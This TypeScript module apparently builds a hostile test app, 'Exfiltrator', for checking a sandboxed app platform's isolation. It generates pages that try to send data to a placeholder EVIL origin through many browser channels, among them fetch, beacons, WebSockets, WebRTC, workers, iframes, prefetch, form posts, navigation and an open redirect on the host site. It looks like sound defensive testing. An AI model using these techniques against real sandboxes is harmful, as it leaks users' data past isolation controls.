import type { AppFiles } from '../write-app.ts';
import type { Listeners } from './listeners.ts';

/**
 * Ways to leak that keep the document: one document tries all, then reports `tried`. It also tries
 * preconnect and speculation rules, which plain frames of a private window do not get either.
 */
export const quietWays = [
  '/fetch',
  '/fetch-keepalive',
  '/xhr',
  '/image',
  '/css-url',
  '/css-import',
  '/stylesheet',
  '/font',
  '/beacon',
  '/websocket',
  '/eventsource',
  '/script',
  '/import',
  '/audio',
  '/video',
  '/poster',
  '/svg-image',
  '/input-image',
  '/object',
  '/embed',
  '/frame',
  '/frame-srcdoc',
  '/frame-blob',
  '/frame-data',
  '/worker',
  '/shared-worker',
  '/service-worker',
  '/prefetch',
  '/preload',
  '/modulepreload',
  '/ping',
  '/redirect',
  'stun', // WebRTC
  'quic', // WebTransport
] as const;

/**
 * Ways to leak by navigation, with the outcome of each: an error page in the frame, or the
 * document's reason. Each document reports `WAY tries` first.
 */
export const leavingWays = {
  assign: 'left',
  replace: 'left',
  link: 'left',
  refresh: 'left',
  navigation: 'left',
  redirected: 'left',
  'form-get': 'form-action',
  'form-post': 'form-action',
  open: 'null',
  'link-blank': 'stayed',
  top: 'SecurityError',
  'link-top': 'stayed',
} as const;

/** An app that tries to leak data by every means of browsers. */
export function exfiltrator({ origin, stunPort, quicPort }: Listeners): AppFiles {
  const fill = (text: string) =>
    text.replaceAll('EVIL', origin).replaceAll('STUN', String(stunPort)).replaceAll('QUIC', String(quicPort));
  const pages = Object.keys(leavingWays).map((way) => [`${way}.html`, fill(leavingPage(way))]);
  const views = Object.keys(leavingWays).map((way) => [`home.${way}`, `${way}.html`]);
  return {
    'gadget.json': JSON.stringify({
      name: 'Exfiltrator',
      page: 'index.html',
      views: { home: 'index.html', ...Object.fromEntries(views) },
    }),
    'index.html': fill(quietPage),
    'service-worker.js': "fetch('EVIL/service-worker', { mode: 'no-cors' });".replace('EVIL', origin),
    ...Object.fromEntries(pages),
  };
}

// Every app knows the site's address, which its images may load from. This app found an open
// redirect there.
const ownSite = "const site = decodeURIComponent(location.hash.replace(/^#gantry=1\\.\\w+\\./, ''));";

const quietPage = `<!doctype html><html lang="en"><title>Quiet</title>
<link rel="preconnect" href="EVIL"><link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">
<link rel="modulepreload" href="EVIL/modulepreload"><link rel="stylesheet" href="EVIL/stylesheet">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"], "eagerness": "immediate"}]}</script>
<style>@import url(EVIL/css-import); body { background: url(EVIL/css-url) }</style>
<a id="pinged" href="#here" ping="EVIL/ping">Ping</a>
<script>
const settle = (work) => new Promise((resolve) => { const end = () => resolve(); try { work(end); } catch { end(); } });
const attach = (markup) => settle((end) => {
  const box = document.createElement('div');
  box.innerHTML = markup;
  const [element] = box.children;
  for (const name of ['load', 'error', 'loadeddata', 'suspend']) element.addEventListener(name, end);
  document.body.append(box);
});
const element = (name, attributes) => settle((end) => {
  const made = document.createElement(name);
  Object.assign(made, { onload: end, onerror: end }, attributes);
  document.body.append(made);
});
const send = (path) => "<script>fetch('EVIL" + path + "', { mode: 'no-cors' })<\\/script>";
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
// Some elements fire no event when they are blocked.
const soon = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1500))]);
${ownSite}
addEventListener('load', async () => {
  pinged.click();
  const connection = (() => { try { return new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); } catch {} })();
  await Promise.all([
    fetch('EVIL/fetch', { mode: 'no-cors' }).catch(() => {}),
    fetch('EVIL/fetch-keepalive', { mode: 'no-cors', keepalive: true }).catch(() => {}),
    settle((end) => { const asked = new XMLHttpRequest(); asked.onloadend = end; asked.open('GET', 'EVIL/xhr'); asked.send(); }),
    new FontFace('evil', 'url(EVIL/font)').load().catch(() => {}),
    settle((end) => { navigator.sendBeacon('EVIL/beacon', 'all of it'); end(); }),
    settle((end) => { new WebSocket('EVIL/websocket'.replace('http', 'ws')).onclose = end; }),
    settle((end) => { const source = new EventSource('EVIL/eventsource'); source.onerror = () => { source.close(); end(); }; }),
    settle((end) => { new WebTransport('https://127.0.0.1:QUIC/').ready.then(end, end); }),
    element('script', { src: 'EVIL/script' }),
    import('EVIL/import').catch(() => {}),
    attach('<img src="EVIL/image">'),
    attach('<audio src="EVIL/audio" preload="auto">'),
    attach('<video src="EVIL/video" preload="auto" poster="EVIL/poster">'),
    attach('<svg><image href="EVIL/svg-image"/></svg>'),
    attach('<input type="image" alt="" src="EVIL/input-image">'),
    attach('<object data="EVIL/object"></object>'),
    attach('<embed src="EVIL/embed">'),
    attach('<iframe src="EVIL/frame"></iframe>'),
    element('iframe', { srcdoc: send('/frame-srcdoc') }),
    element('iframe', { src: blob(send('/frame-blob'), 'text/html') }),
    element('iframe', { src: 'data:text/html,' + encodeURIComponent(send('/frame-data')) }),
    settle((end) => { const worker = new Worker(blob("fetch('EVIL/worker', { mode: 'no-cors' }).finally(() => postMessage(1))")); worker.onmessage = worker.onerror = end; }),
    settle((end) => { const { port, ...worker } = new SharedWorker(blob("onconnect = ({ ports: [port] }) => fetch('EVIL/shared-worker', { mode: 'no-cors' }).finally(() => port.postMessage(1))")); port.onmessage = end; }),
    attach('<img src="' + site + '/out?to=' + encodeURIComponent('EVIL/redirect') + '">'),
    connection && settle(async (end) => {
      connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && end();
      connection.createDataChannel('all of it');
      await connection.setLocalDescription();
    }),
    settle((end) => { navigator.serviceWorker.register('service-worker.js').then(end, end); }),
  ].map(soon));
  parent.postMessage('tried', '*');
});
</script>`;

function leavingPage(way: string): string {
  return `<!doctype html><html lang="en"><title>${way}</title>${way === 'refresh' ? '<meta http-equiv="refresh" content="0; url=EVIL/refresh">' : ''}
<a id="link" href="EVIL/${way}"${way === 'link-top' ? ' target="_top"' : way === 'link-blank' ? ' target="_blank"' : ''}>Go</a>
<form id="form" action="EVIL/${way}" method="${way === 'form-post' ? 'post' : 'get'}"><input name="all" value="of it"></form>
<script>
${ownSite}
const say = (outcome) => parent.postMessage('${way} ' + outcome, '*');
addEventListener('securitypolicyviolation', ({ effectiveDirective }) => say(effectiveDirective));
${way === 'refresh' ? "say('tries');" : ''}
addEventListener('load', () => setTimeout(() => { // after load: it replaces no entry and is a navigation of its own
  try {
    ${way === 'refresh' ? '' : "say('tries');"}
    ${steps[way] ?? ''}
  } catch (error) { say(error.name); }
}));
</script>`;
}

const steps: Readonly<Record<string, string>> = {
  assign: "location.href = 'EVIL/assign?all';",
  replace: "location.replace('EVIL/replace?all');",
  link: 'link.click();',
  navigation: "navigation.navigate('EVIL/navigation?all');",
  redirected: "location.href = site + '/out?to=' + encodeURIComponent('EVIL/redirected');",
  'form-get': 'form.submit();',
  'form-post': 'form.submit();',
  open: "say(String(open('EVIL/open?all')));",
  'link-blank': "link.click(); setTimeout(() => say('stayed'));",
  top: "top.location.href = 'EVIL/top?all';",
  'link-top': "link.click(); setTimeout(() => say('stayed'));",
};
